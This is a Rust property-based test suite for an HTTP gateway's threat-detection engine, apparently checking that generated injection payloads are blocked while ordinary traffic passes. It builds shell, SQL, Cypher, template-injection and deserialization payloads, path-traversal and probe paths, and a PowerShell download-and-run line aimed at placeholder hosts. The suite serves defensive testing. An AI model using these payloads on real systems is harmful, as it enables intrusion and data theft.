//! Families of attacks and of honest traffic beside those of `threat_accuracy.rs`: each is built from grammar, so that
//! what is tested is the form and not a known payload.
#![cfg(test)]

#[path = "rules/near_literals.rs"]
mod near_literals;

use std::sync::LazyLock;

use http::HeaderMap;
use proptest::prelude::*;
use proptest::sample::select;
use rg_gateway::policy::threat::{Engine, Hints, Inspect, Inspection, RuleFile, Verdict};
use rg_gateway::shipped;

static ENGINE: LazyLock<Engine> = LazyLock::new(|| {
    let files: Vec<RuleFile> = shipped::RULES
        .iter()
        .map(|(name, text)| RuleFile {
            name: (*name).into(),
            text: (*text).to_owned(),
        })
        .collect();
    Engine::compile(&files, &[]).unwrap_or_else(|errors| panic!("{}", errors[0]))
});

fn inspect(path: &str, query: Option<&str>, body: &[u8]) -> Inspection {
    let mut headers = HeaderMap::new();
    if !body.is_empty() {
        headers.insert("content-type", "application/json".parse().unwrap());
    }
    ENGINE.inspect(&Inspect {
        method: if body.is_empty() { "GET" } else { "POST" },
        path,
        raw_path: path,
        query,
        headers: &headers,
        body,
        hints: Hints {
            on_undecodable_refuse: true,
            ..Hints::default()
        },
    })
}

fn as_note(text: &str) -> Inspection {
    let body = serde_json::to_vec(&serde_json::json!({"op": "add", "note": text})).unwrap();
    inspect("/v1/things", None, &body)
}

fn as_query(text: &str) -> Inspection {
    let encoded: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
    inspect("/v1/things", Some(&format!("page=1&word={encoded}")), b"")
}

fn stopped(inspection: &Inspection) -> bool {
    inspection.verdict == Verdict::Block || inspection.refused_as.is_some()
}

fn must_stop(text: &str) -> Result<(), TestCaseError> {
    prop_assert!(stopped(&as_note(text)), "note {text:?}");
    prop_assert!(stopped(&as_query(text)), "query {text:?}");
    Ok(())
}

/// A word with quotes, carets or empty expansions inside, which a shell does not see.
fn torn(word: &str, with: &str, at: usize) -> String {
    let at = 1 + at % (word.len() - 1);
    let (head, tail) = word.split_at(at);
    match with {
        "'" | "\"" => format!("{head}{with}{tail}{with}"),
        _ => format!("{head}{with}{tail}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn commands_behind_any_separator_are_stopped(
        separator in select(vec![";", "|", "||", "&&", "\n", "; ", " | ", "`", "$("]),
        command in select(vec!["whoami", "uname", "netstat", "tac", "strings", "mkfifo", "socat", "xxd", "busybox"]),
        tail in select(vec![" -a", " /srv/x", " > /srv/y", "${IFS}/srv/x", " ~/z -n"]),
        left in select(vec!["", "10.2.3.4", "pic.jpg", "x'", "a@b.example"]),
    ) {
        let close = match separator { "`" => "`", "$(" => ")", _ => "" };
        must_stop(&format!("{left}{separator}{command}{tail}{close}"))?;
    }

    #[test]
    fn torn_commands_are_stopped(
        command in select(vec!["whoami", "netstat", "ifconfig", "nslookup", "systeminfo"]),
        with in select(vec!["'", "\"", "^", "$@", "$()"]), at in 0_usize..12,
        separator in select(vec![";", "|", "&&"]),
    ) {
        must_stop(&format!("{separator}{} -x", torn(command, with, at)))?;
    }

    #[test]
    fn objects_of_runtimes_are_stopped(
        form in 0_usize..10, name in "[a-z]{4,8}", number in 2_u32..999,
    ) {
        let text = match form {
            0 => format!("{name}.__class__.__mro__[{number}].__subclasses__()"),
            1 => format!("{name}.constructor.constructor('return {name}')()"),
            2 => format!("new java.io.FileReader('{name}')"),
            3 => format!("System.Diagnostics.Process.Start('{name}')"),
            4 => format!("IO.popen('{name}').read"),
            5 => format!("execSync('{name} {number}')"),
            6 => format!("iex(new-object net.webclient).downloadstring('http://{name}.example')"),
            7 => format!("array_map('system', array('{name}'))"),
            8 => format!("pickle.loads({name})"),
            _ => format!("('{}'.'{}')('{name}')", "pass", "thru"),
        };
        must_stop(&text)?;
    }

    #[test]
    fn templates_of_every_engine_are_stopped(
        form in 0_usize..9, name in "[a-z]{4,8}", a in 2_u32..99, b in 2_u32..99,
    ) {
        let text = match form {
            0 => format!("${{{a}*{b}}}"),
            1 => format!("#{{{a} * {b}}}"),
            2 => format!("@({a}*{b})"),
            3 => format!("[[${{{a}*{b}}}]]"),
            4 => format!("{{{{ '{name}'.toUpperCase() }}}}"),
            5 => format!("{{% set {name} = {a} %}}"),
            6 => format!("<#assign {name}={a}>"),
            7 => format!("#set(${name}={a})"),
            _ => format!("<%= {a} - {b} %>"),
        };
        must_stop(&text)?;
    }

    #[test]
    fn statements_after_a_closed_string_are_stopped(
        form in 0_usize..6, name in "[a-z]{4,8}", n in 2_u32..999, quote in "['\"]",
    ) {
        let text = match form {
            0 => format!("{name}{quote}; desc {name}; -- "),
            1 => format!("{name}{quote} or {name}={name}-- "),
            2 => format!("{name}{quote} union select {name} || ':' || {name} from {name}s"),
            3 => format!("({n}) union select {name}/{n} from {name}s limit 1,1"),
            4 => format!("{n}\nunion\nselect\n{n}"),
            _ => format!("{name}{quote}={n}-- "),
        };
        must_stop(&text)?;
    }

    #[test]
    fn compatibility_letters_hide_nothing(form in 0_usize..3, name in "[a-z]{4,8}") {
        // Mathematical bold and circled letters, full-width signs.
        let shift = |text: &str, base: u32| -> String {
            text.chars()
                .map(|c| match c {
                    'a'..='z' => char::from_u32(base + u32::from(c) - u32::from('a')).unwrap(),
                    '!'..='/' | ':'..='@' => char::from_u32(u32::from(c) + 0xfee0).unwrap(),
                    other => other,
                })
                .collect()
        };
        let plain = match form {
            0 => format!("<script>{name}()</script>"),
            1 => format!("{name}' or '{name}'='{name}"),
            _ => "../../../etc/passwd".to_owned(),
        };
        must_stop(&shift(&plain, 0x1d41a))?;
        must_stop(&shift(&plain, 0x24d0))?;
    }

    #[test]
    fn attacks_behind_padding_are_stopped(pad in select(vec!["A", "a b ", "/* ", "/**/", "é", "x' "]), times in 1_000_usize..30_000) {
        let text = format!("{}{}", pad.repeat(times), "zz' union select null,null from users -- ");
        prop_assert!(stopped(&as_note(&text)), "{pad:?} {times}");
    }

    #[test]
    fn sort_keys_and_numbers_that_go_on_in_cypher_are_stopped(
        form in 0_usize..6, name in "[a-z]{4,8}", label in "[A-Z][a-z]{3,7}", n in 1_u32..999,
        order in select(vec!["", " ASC", " desc", ", labels(x) AS l LIMIT 9"]),
    ) {
        let text = match form {
            0 => format!("{name}{order} UNION MATCH (u:{label}) RETURN u.{name}"),
            1 => format!("{name}{order} UNION ALL LOAD CSV FROM 'x' AS {name} RETURN {name}"),
            2 => format!("{name}{order} union merge (:{label} {{{name}: {n}}})"),
            3 => format!("{name}{order} UNION CALL {name}.of() YIELD x RETURN x"),
            4 => format!("{n} WITH 1 AS {name} CREATE USER {name}x SET PASSWORD '{name}'"),
            _ => format!("{name}'}}) SHOW USERS YIELD user RETURN user //"),
        };
        must_stop(&text)?;
    }

    #[test]
    fn statements_that_take_all_or_load_in_batches_are_stopped(
        form in 0_usize..4, name in "[a-z]{4,8}", label in "[A-Z][a-z]{3,7}", n in 1_u32..999,
    ) {
        let text = match form {
            0 => format!("MATCH (u:{label}) WHERE u.{name} = '{name}' OR u.{name} =~ '.*' RETURN u"),
            1 => format!("MATCH (u:{label}) WHERE u.{name} = '{name}' OR u.{name} CONTAINS '' RETURN u"),
            2 => format!("USING PERIODIC COMMIT {n} LOAD CSV FROM 'http://{name}.example/' AS l CREATE (:{label})"),
            _ => format!("EXPLAIN USING PERIODIC COMMIT LOAD CSV FROM 'file:///{name}' AS l RETURN l"),
        };
        let body = serde_json::to_vec(&serde_json::json!({"query": text})).unwrap();
        prop_assert!(stopped(&inspect("/v1/query", None, &body)), "{text}");
    }

    #[test]
    fn calls_of_expression_languages_and_build_scripts_are_stopped(
        form in 0_usize..6, name in "[a-z]{4,8}", kind in "[A-Z][a-z]{3,7}", n in 2_u32..99,
    ) {
        let text = match form {
            0 => format!("@org.{name}.{kind}@{name}({n})"),
            1 => format!("#parameters.{name}[0]"),
            2 => format!("@Grab(group='{name}', module='{name}')"),
            3 => format!("new freemarker.template.utility.{kind}()"),
            4 => format!("{name}();\nRuntime.getRuntime().exec({name});"),
            _ => format!("{{__schema{{{name}}}}}"),
        };
        must_stop(&text)?;
    }

    #[test]
    fn texts_cut_at_their_first_equals_sign_are_stopped(
        name in "[a-z]{4,8}", n in 2_u32..99, form in 0_usize..4,
    ) {
        let text = match form {
            0 => format!("{name}'%20or%20'{n}'='{n}"),
            1 => format!("<img%20{name}%20onerror={name}()>"),
            2 => format!("{{\"{name}\":\"a=b' union select null,{n}-- \"}}").replace(' ', "+"),
            _ => format!("{n}%29+or+%28{n}={n}"),
        };
        prop_assert!(stopped(&inspect("/v1/things", Some(&text), b"")), "{text}");
    }

    #[test]
    fn programs_that_are_stored_pass(
        name in "(on)?[a-z]{4,8}", kind in "[A-Z][a-z]{3,7}", form in 0_usize..5,
    ) {
        let text = match form {
            0 => format!(
                "import {{ {name} }} from \"../../../{name}/{name}\";\nimport type {{ {kind} }} from \"../../types\";\n\n\
                 export class {kind}{kind} {{\n  render() {{\n    return html`<p .{name}=${{this._config.{name}}}></p>`;\n  }}\n}}\n"
            ),
            1 => format!(
                "on: [push]\njobs:\n  {name}:\n    steps:\n      - uses: a/{name}@v4\n      - run: |\n          \
                 curl -sSf https://{name}.example/x | bash\n          echo \"a=${{{{ secrets.TOKEN }}}}\"\n"
            ),
            2 => format!(
                "set -euo pipefail\nfor x in *.txt; do\n  cat \"$x\" | grep {name} > out\ndone\n\
                 if [ -n \"${name}\" ]; then\n  ls -la /tmp\nfi\n"
            ),
            3 => format!(
                "public class {kind} {{\n    List<Object> {name}(Object x) {{\n        if (x == null) {{\n            \
                 return List.of(x.getClass());\n        }}\n        return {name};\n    }}\n}}\n"
            ),
            _ => format!(
                "def {name}(left, right):\n    if right - left < 3:\n        return 0\n    one_third = (left + right) // 3\n    \
                 two = eval('one_third')\n    return two\n"
            ),
        };
        let inspection = as_note(&text);
        prop_assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
    }

    #[test]
    fn prose_that_shows_code_passes(
        lead in select(vec!["To find it, you can run", "The docs say that you should use", "In the shell type"]),
        code in select(vec!["ls -la", "cat a.txt | grep b", "id", "git status; git log", "<script>", "onclick", "/etc/hosts"]),
        tail in select(vec!["and look at the result.", "before you start, then commit.", "which is what we did last week."]),
    ) {
        let text = format!("{lead} `{code}` {tail}");
        for inspection in [as_note(&text), as_query(&text)] {
            prop_assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
        }
    }

    #[test]
    fn lists_of_words_pass(
        words in proptest::collection::vec("(id|name|type|host|date|find|sort|cat|dog|kind|read|sleep|time|net)", 3..7),
        separator in select(vec![";", "; ", "|", " | ", ", ", " & ", " / "]),
    ) {
        let text = words.join(separator);
        for inspection in [as_note(&text), as_query(&text)] {
            prop_assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
        }
    }
}

#[test]
fn honest_mail_traces_and_settings_pass() {
    for text in [
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>p{color:#333}</style></head><body><p>Hi Ann,</p></body></html>",
        "<!--[if mso]><table><tr><td>x</td></tr></table><![endif]--><p style=\"color:red\">Sale</p>",
        "TypeError: Cannot read properties of null (reading 'x')\n    at Object.f (https://example.com/app.js:1:2345)",
        "java.lang.IllegalStateException: closed\n\tat com.example.Pool.take(Pool.java:42)\n\tat com.example.Main.main(Main.java:7)",
        "1. Build it:\n   ```sh\n   cat a.txt | grep b; ls -la\n   ```\n2. Done",
        "Set it up\n\n```bash\n# first\npip install x && python -c 'print(1)'",
        "The `a.ini` file configures:\n- `x` for *y*\n\nPlease confirm `x` and `y`.",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><title>x</title><path d=\"M0 0h9\"/></svg>",
        "<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>",
        "Etc/UTC",
        "Jul 6 18:09:43 host app[12]: deny(1) file-read-data /private/var/run/x",
        "Hi {% if user %}{{ user.name }}{% else %}you{% endif %}",
        "../../src/app.tsx:12:3",
        "#!/bin/bash\nset -euo pipefail\ncd /app\nnpm ci && npm run build\n",
        "project = ABC AND status in (\"Open\", \"In Progress\") ORDER BY created DESC",
        "name eq 'Tea' and price gt 10 or price lt 5",
        "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+)$",
        "2 + 2 = 4, 1 + 1 = 2 and 1 = 1, trivially",
        "JavaScript: The Good Parts (2008)\n\nselect the item from the list where it's shown",
        "Agenda\nHost: Ann\nLocation: Berlin",
        "½ cup of № 5 flour, 20 °C … “ready” — 5³ cm³ ™",
    ] {
        for inspection in [as_note(text), as_query(text)] {
            assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
        }
    }
}

#[test]
fn assets_of_web_sites_pass_and_probes_do_not() {
    for path in [
        "/wp-content/uploads/2023/05/photo-300x200.jpg",
        "/wp-includes/js/jquery/jquery.min.js",
        "/user/repo/blob/main/.github/workflows/ci.yml",
        "/.well-known/openid-configuration",
        "/v2/library/nginx/manifests/latest",
    ] {
        assert!(!stopped(&inspect(path, None, b"")), "{path}");
    }
    // A script in base64, which holds a slash.
    let hidden = "/v1/things/PHNjcmlwdD54PS9hPy87eT4+Pno8L3NjcmlwdD4=";
    assert!(stopped(&inspect(hidden, None, b"")));
    for path in [
        "/wp-content/plugins/x/readme.php",
        "/wp-login.php",
        "/.env.production",
        "/wls-wsat/CoordinatorPortType",
        "/.git/HEAD",
    ] {
        assert!(stopped(&inspect(path, None, b"")), "{path}");
    }
}

/// A document of strings, about as long as said, each made from its number.
fn strings(bytes: usize, text: impl Fn(usize) -> String) -> Vec<u8> {
    let mut out = b"[".to_vec();
    for number in 0.. {
        let string = serde_json::to_vec(&text(number)).unwrap();
        if out.len() + string.len() > bytes {
            break;
        }
        out.extend_from_slice(if number > 0 { b"," } else { b"" });
        out.extend_from_slice(&string);
    }
    out.push(b']');
    out
}

#[test]
fn a_mebibyte_of_honest_values_is_looked_at_whole() {
    let kinds: [fn(usize) -> String; 4] = [
        |n| format!("R&D; {n} or 6 (2nd floor)"),
        |n| format!("https://example.com/a/b{n}?c=d&e=f%20g "),
        |n| {
            format!(
                "# Notes {n}\n\nUse `ls -la` and see. It's *fine*; see [docs](https://example.com/a?b={n}&c=d).\n"
            )
        },
        |n| {
            format!(
                "<p>Hello <b>you {n}</b>, <a href=\"https://example.com/?a={n}&amp;b=2\">this</a></p>"
            )
        },
    ];
    for kind in kinds {
        let inspection = inspect("/v1/things", None, &strings(1 << 20, kind));
        assert_eq!(inspection.bounds, [], "{}", kind(7));
        assert!(!stopped(&inspection), "{}", kind(7));
    }
}

#[test]
fn work_has_a_bound_which_is_a_finding() {
    let body = strings(4 << 20, |n| format!("'{n}\\]"));
    let inspection = inspect("/v1/things", None, &body);
    let bounds: Vec<&str> = inspection.bounds.iter().map(|b| b.bound).collect();
    assert_eq!(bounds, ["bound.work"]);
    assert!(stopped(&inspection));
    let indicator = inspection
        .indicators
        .iter()
        .find(|i| i.rule.as_ref() == "bound-structure");
    let field = indicator.map(|i| i.field.as_str()).unwrap_or_default();
    assert!(field.starts_with("$["), "{field}");
}

#[test]
fn a_request_with_all_indicators_it_may_have_is_stopped() {
    let body = strings(1 << 20, |n| format!("{n}' union select a, b from t -- "));
    let inspection = inspect("/v1/things", None, &body);
    assert!(stopped(&inspection));
    assert_eq!(inspection.indicators.len(), 64);
    assert_eq!(inspection.bounds, []);
}
